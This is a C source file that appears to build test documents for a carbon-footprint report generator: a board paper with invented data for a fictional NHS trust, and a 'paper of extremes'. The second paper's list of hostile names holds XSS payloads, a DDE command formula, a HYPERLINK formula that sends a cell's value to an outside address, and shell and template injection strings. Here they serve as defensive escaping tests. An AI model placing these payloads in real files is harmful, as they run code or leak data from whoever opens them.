/* SPDX-License-Identifier: MIT */
#include "papers.h"

const char drawn_svg[] =
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n"
    "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1600\" height=\"900\" "
    "viewBox=\"0 0 1600 900\" role=\"img\" aria-labelledby=\"t d\">\n"
    "<title id=\"t\">A chart</title><desc id=\"d\">A line that falls.</desc>\n"
    "<rect width=\"1600\" height=\"900\" fill=\"#fff\"/>\n"
    "<path d=\"M100 150L1500 700\" stroke=\"#005eb8\" stroke-width=\"8\" fill=\"none\"/>\n"
    "<text x=\"100\" y=\"100\" font-family=\"Liberation Sans, Arial\" font-size=\"44\">A "
    "chart</text>"
    "\n</svg>\n";

const char *const hostile_names[] = {
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "&lt;b&gt;&amp;amp;&#60;",
    "javascript:alert(1)",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"Press\")",
    "=cmd|'/C calc'!A0",
    "http://192.0.2.1/x",
    "mailto:a@b.example",
    "_x0041_",
    "a,b;c\"d\"\"e",
    "line\none\r\ntwo",
    "`id`$(id)${HOME}%n%s",
    "a\xe2\x80\xae"
    "dlrow",
    "a\x01\x02\x1b[31mb\x7f",
    "\xff\xfe broken",
    "-->]]><!--",
    "{{7*7}}#{7*7}",
    "\\\"};@import 'x';",
    NULL,
};

static const char *const long_names[] = {
    "The Royal Borough and District Community Hospital for Rehabilitation, Recovery and Wellbeing",
    "Центральная районная больница восстановительного лечения имени академика Ивана Петровича",
    "مستشفى الصحة النفسية والتأهيل المجتمعي في المنطقة الشمالية الشرقية من المدينة الكبرى القديمة",
    "东北部老城区社区心理健康与康复综合医疗服务中心医院第二分院住院部及门诊部和日间治疗中心大楼",
};

#define FIRST_FY 2013
#define N_YEARS 13

static GpDocTable *
years_table(const char *id)
{
    static const int tonnes[N_YEARS] = {21480, 20935, 20212, 19520, 18810, 17960, 17411,
                                        15230, 0,     0,     14890, 13702, 13061};
    GpDocTable *table = gp_doc_table_new(
        id,
        "NHS Carbon Footprint and the path to net zero, Northmoor NHS Trust, 2013/14 to 2025/26");

    gp_doc_table_add_text_column(table, "Year", "year");
    gp_doc_table_add_column(table, "Footprint", "t CO₂e", "footprint_t_co2e", 0);
    gp_doc_table_add_column(table, "Path", "t CO₂e", "path_t_co2e", 0);
    gp_doc_table_add_change_column(table, "Gap to the path", "t CO₂e", "gap_t_co2e", 0);
    gp_doc_table_add_change_column(table, "Gap to the path", "%", "gap_percent", 1);
    for (int i = 0; i < N_YEARS; i++) {
        g_autofree char *year = g_strdup_printf("%d/%02d", FIRST_FY + i, (FIRST_FY + i + 1) % 100);
        int path = 21480 - 820 * i;

        gp_doc_table_add_row(table, year);
        gp_doc_table_set_value(table, 2, path, 0);
        if (tonnes[i] == 0)
            continue;
        gp_doc_table_set_kg(table, 1, (GpInt128)tonnes[i] * 1000000 + 123456, 3);
        gp_doc_table_set_value(table, 3, tonnes[i] - path, 0);
        gp_doc_table_set_double(table, 4, 100.0 * (tonnes[i] - path) / path);
    }
    gp_doc_table_set_mark(table, 1, GP_MARK_PROVISIONAL);
    gp_doc_table_add_note(table, "Two years have no data.");
    return table;
}

static GpDocTable *
causes_table(const char *id)
{
    static const struct {
        const char *cause, *by;
        int tonnes;
    } causes[] = {
        {"Less gas was burnt", "us", -1210},        {"Fewer miles were driven", "us", -340},
        {"More electricity was bought", "us", 115}, {"Cleaner grid electricity", "others", -1895},
        {"Other factors changed", "others", 42},
    };
    GpDocTable *table = gp_doc_table_new(id, "What changed the footprint, 2019/20 to 2025/26");
    int sum = 0;

    gp_doc_table_add_text_column(table, "Cause", "cause");
    gp_doc_table_add_text_column(table, "By", "by");
    gp_doc_table_add_change_column(table, "Change", "t CO₂e", "change_t_co2e", 0);
    for (guint i = 0; i < G_N_ELEMENTS(causes); i++) {
        gp_doc_table_add_row(table, causes[i].cause);
        gp_doc_table_set_text(table, 1, causes[i].by);
        gp_doc_table_set_value(table, 2, causes[i].tonnes, 0);
        sum += causes[i].tonnes;
    }
    gp_doc_table_add_total(table, "All causes");
    gp_doc_table_set_value(table, 2, sum, 0);
    return table;
}

static void
add_board_page(GpDocument *document)
{
    GpSection *section = gp_document_add_section(document, "board", "Summary for the board", 1);
    GPtrArray *decisions = g_ptr_array_new_with_free_func(g_free);

    gp_section_add_status(section, GP_TONE_BAD, "Off track",
                          "In 2025/26 the trust emitted 13,061 tonnes, 1,421 tonnes (12.2%) above "
                          "its path to net zero in 2040; at this pace it would get there in 2047.");
    gp_section_add_fact(section, "NHS Carbon Footprint, 2025/26", "13,061 t",
                        "25% less than in 2019/20");
    gp_section_add_fact(section, "Gap to the path", "+1,421 t", "12.2% above it");
    gp_section_add_fact(section, "Pace needed to 2040", "−871 t a year", "it was −725 t");
    gp_section_add_fact(section, "Carbon budget left", "38%", "gone in 2033 at this pace");
    gp_section_add_figure(section, "trajectory",
                          "In 2025/26 we were 1,421 tonnes above the path to net zero",
                          "The footprint fell from 21,480 tonnes in 2013/14 to 13,061 tonnes in "
                          "2025/26. If the trend continues it will be 9,900 tonnes in 2031/32, "
                          "2,100 tonnes above the path.",
                          years_table("trajectory"));
    section = gp_document_add_section(document, "board-causes", "What changed it", 2);
    gp_section_say(section, "Since 2019/20 the footprint fell by 3,288 tonnes. What the trust did "
                            "took out 1,435 tonnes; cleaner grid electricity took out 1,895.");
    section = gp_document_add_section(document, "board-decisions", "What the board is asked", 2);
    g_ptr_array_add(decisions, g_strdup("Approve the heat pump at Moor View: £2.4 million, "
                                        "−610 tonnes a year from 2028/29."));
    g_ptr_array_add(decisions, g_strdup("Name an owner for staff travel, which has none."));
    g_ptr_array_add(decisions, g_strdup("Set a date for the last desflurane: 31 March 2027."));
    gp_section_add_list(section, decisions);
    section = gp_document_add_section(document, "board-owner", "Who answers for it", 2);
    gp_section_say(section, "Dr Amara Okafor, director of estates and board lead for net zero, "
                            "answers for this report.");
}

static void
add_parts(GpDocument *document)
{
    GpSection *section = gp_document_add_section(document, "causes", "Causes of the change", 1);
    static const char *const clauses[][2] = {
        {"A board member is responsible for net zero", "Dr Amara Okafor, since 1 April 2024."},
        {"Targets stand in the plan of the integrated care board", "Two of three do."},
        {"Staff know the footprint of their role", "No role has been published yet."},
        {"Waste is tracked at every site", "Nothing is known of three sites."},
    };
    static const char *const states[] = {"Shown", "In part", "Not yet", "Not known"};

    section->begins_page = TRUE;
    gp_section_say(section, "Of the fall since 2019/20, less than half was the trust's own doing.");
    gp_section_add_figure(section, "causes", "Cleaner electricity did more than we did",
                          "Cleaner grid electricity took out 1,895 tonnes and what the trust did "
                          "took out 1,435 tonnes.",
                          causes_table("causes-since-2019"));
    gp_section_note(section, "Two years have no data, so that nothing can be said of them.");
    section = gp_document_add_section(document, "causes-last", "Since last year", 2);
    gp_section_say(section, "The footprint fell by 641 tonnes.");
    gp_section_add_table(section, causes_table("causes-since-last"));
    section = gp_document_add_section(document, "causes-notes", "How causes are told apart", 3);
    gp_section_say(section, "Each activity at each site is split on its own.");
    section = gp_document_add_section(document, "evidence", "What the trust can show", 1);
    section->begins_page = TRUE;
    for (guint i = 0; i < G_N_ELEMENTS(clauses); i++)
        gp_section_add_answer(section, clauses[i][0], clauses[i][1], (GpTone)i, states[i]);
}

static void
add_sites(GpDocument *document, guint n)
{
    GpSection *section = gp_document_add_section(document, "sites", "Sites", 1);
    GpDocTable *table = gp_doc_table_new("sites", "Footprint of each site, 2025/26");
    gint64 sum = 0;

    section->begins_page = TRUE;
    gp_section_say(section, "%u sites are known.", n);
    gp_doc_table_add_text_column(table, "Site", "site");
    gp_doc_table_add_text_column(table, "Town", "town");
    gp_doc_table_add_column(table, "Floor area", "m²", "floor_area_m2", 0);
    gp_doc_table_add_column(table, "Electricity", "kWh", "electricity_kwh", 0);
    gp_doc_table_add_column(table, "Gas", "kWh", "gas_kwh", 0);
    gp_doc_table_add_column(table, "Footprint", "t CO₂e", "footprint_t_co2e", 1);
    gp_doc_table_add_column(table, "Per area", "kg CO₂e/m²", "per_area_kg_co2e_m2", 2);
    gp_doc_table_add_change_column(table, "Since last year", "%", "since_last_percent", 1);
    for (guint i = 0; i < n; i++) {
        g_autofree char *name = g_strdup_printf("Northmoor site %u", i + 1);
        gint64 kg = 500000 - (gint64)i * 7919;

        gp_doc_table_add_row(table, i < G_N_ELEMENTS(long_names) ? long_names[i] : name);
        gp_doc_table_set_text(table, 1, i % 2 == 0 ? "Northmoor" : "Little Weston");
        gp_doc_table_set_value(table, 2, 9000 - (GpInt128)i * 131, 0);
        gp_doc_table_set_value(table, 3, 1000000 - (GpInt128)i * 12345, 0);
        gp_doc_table_set_value(table, 4, 2000000 - (GpInt128)i * 23456, 0);
        gp_doc_table_set_kg(table, 5, kg, 0);
        gp_doc_table_set_double(table, 6, (double)kg / (9000 - (double)i * 131));
        gp_doc_table_set_double(table, 7, (double)i - 7.25);
        sum += kg;
    }
    gp_doc_table_add_total(table, "All sites");
    gp_doc_table_set_kg(table, 5, sum, 0);
    gp_section_add_table(section, table);
}

GpDocument *
paper_for_a_board(void)
{
    GpDocument *document =
        gp_document_new("Green Plan progress report", "Northmoor NHS Trust, 2013/14 to 2025/26");

    g_free(document->notice);
    document->notice = g_strdup("Invented data: this trust does not exist");
    g_free(document->colophon);
    document->colophon = g_strdup("Made by greenplan on 22 November 2026 from 14 files.");
    add_board_page(document);
    add_parts(document);
    add_sites(document, 60);
    return document;
}

static GpDocTable *
marks_table(void)
{
    GpDocTable *table = gp_doc_table_new("marks", "Every mark, with a figure and without one");

    gp_doc_table_add_text_column(table, "Mark", "mark");
    gp_doc_table_add_column(table, "With a figure", "t", "with_t", 2);
    gp_doc_table_add_column(table, "Without", "t", "without_t", 0);
    gp_doc_table_add_change_column(table, "Change", "t", "change_t", 1);
    for (guint mark = 0; mark < GP_N_MARKS; mark++) {
        gp_doc_table_add_row(table, mark == 0 ? "none" : gp_mark_words((GpMark)mark));
        gp_doc_table_set_value(table, 1, (GpInt128)1234567 * (mark % 2 == 0 ? 1 : -1), 3);
        gp_doc_table_set_mark(table, 1, (GpMark)mark);
        if (mark != GP_MARK_NONE && mark != GP_MARK_LOW)
            gp_doc_table_set_mark(table, 2, (GpMark)mark);
        gp_doc_table_set_value(table, 3, mark == 0 ? 0 : (GpInt128)mark - 6, 3);
    }
    gp_doc_table_add_row(table, "large");
    gp_doc_table_set_value(table, 1, (GpInt128)123456789012 * 1000 + 5, 3);
    gp_doc_table_set_value(table, 2, -(GpInt128)98765432, 0);
    gp_doc_table_set_value(table, 3, (GpInt128)125, 2);
    return table;
}

static void
add_name(GpDocTable *table, const char *name)
{
    gp_doc_table_add_row(table, name);
    gp_doc_table_set_text(table, 1, name);
    gp_doc_table_set_value(table, 2, -(GpInt128)table->rows->len, 0);
}

/* More than a hundred names: as they are, after a word, as formulas, in quotes. */
static GpDocTable *
names_table(void)
{
    static const char *const begin[] = {"", "Ward ", "=", "\""};
    static const char *const end[] = {"", "", " Ward", "\""};
    GpDocTable *table = gp_doc_table_new("names", hostile_names[0]);

    gp_doc_table_add_note(table, hostile_names[1]);
    gp_doc_table_add_text_column(table, "Name <b>&", "name");
    gp_doc_table_add_text_column(table, "Again", "again");
    gp_doc_table_add_column(table, "=1+1", "@t", "figure_t", 0);
    for (guint form = 0; form < G_N_ELEMENTS(begin); form++) {
        for (guint i = 0; hostile_names[i] != NULL; i++) {
            g_autofree char *name = g_strconcat(begin[form], hostile_names[i], end[form], NULL);

            add_name(table, name);
        }
    }
    for (guint i = 0; i < G_N_ELEMENTS(long_names); i++)
        add_name(table, long_names[i]);
    return table;
}

static GpDocTable *
wide_table(const char *id, guint n_rows)
{
    GpDocTable *table = gp_doc_table_new(id, "As wide as fifteen years");

    gp_doc_table_add_text_column(table, "What", "what");
    for (int i = 0; i < 15; i++) {
        g_autofree char *year = g_strdup_printf("%d/%02d", 2011 + i, (2012 + i) % 100);
        g_autofree char *key = g_strdup_printf("y%d_kwh", 2011 + i);

        gp_doc_table_add_column(table, year, "kWh", key, 0);
    }
    for (guint row = 0; row < n_rows; row++) {
        gp_doc_table_add_row(table, long_names[row % G_N_ELEMENTS(long_names)]);
        for (guint k = 1; k <= 15; k++)
            gp_doc_table_set_value(table, k, (GpInt128)1234567 * k * (row + 1), 0);
    }
    return table;
}

/* Of its six hundred rows pages show three. */
static GpDocTable *
long_table(void)
{
    GpDocTable *table = gp_doc_table_new("long", "Fifty years of months");

    table->page_rows = 3;
    gp_doc_table_add_text_column(table, "Month", "month");
    gp_doc_table_add_column(table, "Gas", "kWh", "gas_kwh", 0);
    for (guint i = 1; i <= 600; i++) {
        g_autofree char *month = g_strdup_printf("Month %u", i);

        gp_doc_table_add_row(table, month);
        gp_doc_table_set_value(table, 1, 7000 + i, 0);
    }
    gp_doc_table_add_total(table, "All months");
    gp_doc_table_set_value(table, 1, 4380300, 0);
    return table;
}

GpDocument *
paper_of_extremes(void)
{
    GpDocument *document = gp_document_new(hostile_names[3], hostile_names[1]);
    GpSection *section = gp_document_add_section(document, "all", hostile_names[0], 1);
    GPtrArray *items = g_ptr_array_new_with_free_func(g_free);

    g_free(document->notice);
    document->notice = g_strdup(hostile_names[27]);
    g_free(document->colophon);
    document->colophon = g_strdup(hostile_names[2]);
    for (guint i = 0; hostile_names[i] != NULL; i++)
        g_ptr_array_add(items, g_strdup(hostile_names[i]));
    gp_section_say(section, "%s", hostile_names[5]);
    gp_section_note(section, "%s", hostile_names[1]);
    gp_section_add_list(section, items);
    for (guint i = 0; i <= GP_TONE_UNKNOWN; i++)
        gp_section_add_status(section, (GpTone)i, hostile_names[i], long_names[i]);
    for (guint i = 0; i < G_N_ELEMENTS(long_names); i++)
        gp_section_add_fact(section, long_names[i], hostile_names[i], "");
    for (guint i = 0; i < G_N_ELEMENTS(long_names); i++)
        gp_section_add_answer(section, hostile_names[i], long_names[i], (GpTone)i, long_names[i]);
    gp_section_add_figure(section, "drawn", hostile_names[1], hostile_names[0],
                          wide_table("wide", 4));
    section = gp_document_add_section(document, "tables", "Tables", 1);
    gp_section_add_figure(section, "undrawn", hostile_names[1], hostile_names[0], NULL);
    gp_section_add_table(section, marks_table());
    gp_section_add_table(section, names_table());
    gp_section_add_table(section, wide_table("empty", 0));
    gp_section_add_table(section, long_table());
    gp_section_add_table(section,
                         wide_table("a-table-whose-id-is-longer-than-a-sheet-may-be-called-1", 1));
    gp_section_add_table(section,
                         wide_table("a-table-whose-id-is-longer-than-a-sheet-may-be-called-2", 1));
    return document;
}
